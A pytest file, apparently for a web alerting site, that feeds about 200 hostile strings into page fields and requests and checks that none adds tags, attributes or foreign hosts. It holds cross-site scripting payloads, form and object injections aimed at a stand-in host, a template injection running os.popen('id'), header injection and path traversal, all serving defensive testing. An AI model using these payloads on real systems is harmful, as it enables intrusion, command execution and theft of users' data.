"""200 hostile texts in every field that reaches the page: only our tags, no script, no foreign host."""

import re
from html.parser import HTMLParser
from urllib.parse import urlsplit

import pytest

from tests.alerting.test_hostile_mail import PAYLOADS as MAIL_PAYLOADS
from tests.web.served import CLAIM, POSTS, practice_called, receiver_called

WEB = (
    '" autofocus onfocus=alert(1) x="',
    "'><script>alert(1)</script>",
    "</style><script>alert(1)</script>",
    "</title><script>alert(1)</script>",
    "</textarea></select></form><form action=https://evil.example method=post>",
    "<button formaction=https://evil.example>Acknowledge</button>",
    "<input type=submit formmethod=get>",
    "<svg><animate onbegin=alert(1) attributeName=x>",
    "<math><a xlink:href=javascript:alert(1)>x",
    "<details open ontoggle=alert(1)>",
    "<object data=https://evil.example></object><embed src=https://evil.example>",
    "<link rel=stylesheet href=https://evil.example/x.css>",
    "<meta http-equiv=Content-Security-Policy content=''>",
    "<!--<img src='--><img src=x onerror=alert(1)>",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<template><script>alert(1)</script></template>",
    "<video><source onerror=alert(1)>",
    "\\u003cscript\\u003ealert(1)\\u003c/script\\u003e",
    "{{ self.__init__.__globals__ }}{# #}{% include 'style.css' %}",
    "{{ cycler.__init__.__globals__.os.popen('id').read() }}",
    "%3Cscript%3Ealert(1)%3C/script%3E",
    "Location: https://evil.example\r\nSet-Cookie: a=b",
    "..\\..\\etc\\passwd\x00.html",
    "ｊａｖａｓｃｒｉｐｔ：alert(1)",
    "jav&#x09;ascript:alert(1)",
    "<a href=//evil.example>//evil.example</a>",
    "<ımg src=x onerror=alert(1)>",
    "\u2028</script>\u2029<script>",
    "\ufeff<script>alert(1)</script>",
    "<form id=form><input name=act value=resolve>",
    '"><input type=hidden name=form value=0>',
)
PAYLOADS = tuple(dict.fromkeys((*MAIL_PAYLOADS, *WEB, *(f"The shot {text} harms" for text in WEB))))

OUR_TAGS = {
    *("html", "head", "meta", "title", "link", "style", "body", "a", "div", "header", "main", "section", "aside"),
    *(
        "footer",
        "h1",
        "h2",
        "h3",
        "p",
        "strong",
        "span",
        "ul",
        "ol",
        "li",
        "form",
        "input",
        "label",
        "select",
        "option",
    ),
    "button",
}
OUR_ATTRIBUTES = {
    *("lang", "charset", "name", "content", "rel", "href", "class", "id", "tabindex", "role", "method", "autocomplete"),
    *("type", "value", "for", "maxlength", "selected", "required", "aria-labelledby"),
}
HOSTS = {None, "www.acpjournals.org", "www.cdc.gov", "www.reddit.com", "x.com"}


class Seen(HTMLParser):
    def __init__(self):
        super().__init__(convert_charrefs=True)
        self.tags, self.attributes, self.addresses, self.hidden = [], set(), [], []

    def handle_starttag(self, tag, attrs):
        named = dict(attrs)
        self.tags.append(tag)
        self.attributes |= set(named)
        self.addresses += [named[name] for name in ("href", "src", "action", "formaction") if name in named]
        if named.get("type") == "hidden":
            self.hidden.append((named["name"], named["value"]))


def storable(text):
    """What PostgreSQL and an UTF-8 file can hold at all; the rest never reaches a page."""
    return text.replace("\x00", "").encode("utf-8", "ignore").decode()


def look_at(html, silenced):
    """What the page is made of; one that is silenced has a fourth form, which ends the silence."""
    forms = 3 + silenced
    seen = Seen()
    seen.feed(html)
    assert set(seen.tags) <= OUR_TAGS, set(seen.tags) - OUR_TAGS
    assert seen.attributes <= OUR_ATTRIBUTES, seen.attributes - OUR_ATTRIBUTES
    once = {"style": 1, "title": 1, "select": 1, "link": 1}
    for tag, number in {**once, "form": forms, "button": forms, "input": 3 * forms}.items():
        assert seen.tags.count(tag) == number, tag
    assert sorted(name for name, _ in seen.hidden) == sorted(["form", "act"] * forms + ["silence"] * silenced)
    for address in seen.addresses:
        parts = urlsplit(address)
        assert parts.hostname in HOSTS
        assert parts.scheme in {"https", ""} or address == "data:,"
    assert not re.search("[\u202a-\u202e\u2066-\u2069\u200e\u200f\x00\x0b\x1c\x85\u2028]", html)
    return seen


def test_there_are_two_hundred():
    assert len(PAYLOADS) >= 200


def test_no_payload_in_any_field_adds_a_tag_an_attribute_a_link_or_a_host(site, raised):
    plain = None
    for number, text in enumerate(PAYLOADS):
        bad = storable(text)
        practice_called(site.workplace.settings, text.encode("utf-8", "ignore").decode()[:200])
        receiver_called(site.workplace.settings, bad[:200])
        receiver = " ".join(bad[:200].split())
        practice_id = type(site.workplace)(site.workplace.settings).practice.practice_id
        source = {"publisher": bad, "title": bad, "address": bad, "date": bad, "verified": True}
        key = raised(
            claim={
                **{"claim": bad, "correction": bad, "harm_reason": bad, "review_note": bad, "topic": bad},
                "evidence": [source, source | {"verified": bad}, *CLAIM["evidence"]],
            },
            notes=(bad,),
            claim_id=f"claim-{number}",
            # A key that is not printable names no alert.
            alert_key=f"{number}{''.join(filter(str.isprintable, bad))}"[:400],
            practice_id=practice_id,
            reason=bad,
            platforms=[bad, "x"],
            evidence={
                "p_match": 0.9,
                "promotes": 0.9,
                "posts": [
                    {"platform": bad, "platform_id": bad, "url": bad},
                    {"platform": "x", "platform_id": bad, "url": bad},
                    *POSTS,
                ],
            },
        )
        token = site.token(key, receiver=receiver)
        done = site.post(token, {"act": "silence", "hours": "4", "note": bad[:1_000]})
        assert done.status_code in {303, 422}
        page = site.get(token)
        assert page.status_code == 200
        seen = look_at(page.text, silenced=done.status_code == 303)
        assert "evil" not in str(page.headers)
        plain = plain or seen.tags.count("section")
        assert seen.tags.count("section") == plain
        assert len(page.content) < 60_000
    assert len(site.rows("silences")) > 180


def test_no_payload_sent_as_a_request_is_given_back(site, raised):
    token = site.token(raised())
    before = site.everything()
    for text in PAYLOADS:
        bad = text.encode("utf-8", "ignore")
        silence, end = {"act": "silence", "hours": bad, "note": "x"}, {"act": "unsilence", "silence": bad}
        for fields in ({"act": bad}, silence, end, {bad: bad}):
            answer = site.post(token, fields)
            assert answer.status_code in {400, 413}
            assert "evil" not in answer.text + str(answer.headers)
        answer = site.post(token, {"act": "acknowledge", "form": bad})
        assert answer.status_code in {403, 413}
        assert "evil" not in answer.text + str(answer.headers)
        for part in (bad.hex(), text[:60].encode("utf-8", "ignore")):
            answer = site.get("", params={"token": part})
            assert answer.status_code == 403
            assert "evil" not in answer.text + str(answer.headers)
    assert site.everything() == before


@pytest.mark.parametrize("status", [403, 410, 404])
def test_refusals_are_the_same_for_everybody(site, raised, status):
    key = raised()
    tokens = {403: ("x", "y" * 50), 404: (site.token("a"), site.token("b"))}
    tokens[410] = tuple(site.token(name, now=site.clock.now.replace(year=2020)) for name in (key, "none"))
    texts = {site.get(token).text for token in tokens[status]}
    assert len(texts) == 1, "an answer that differs tells what exists"
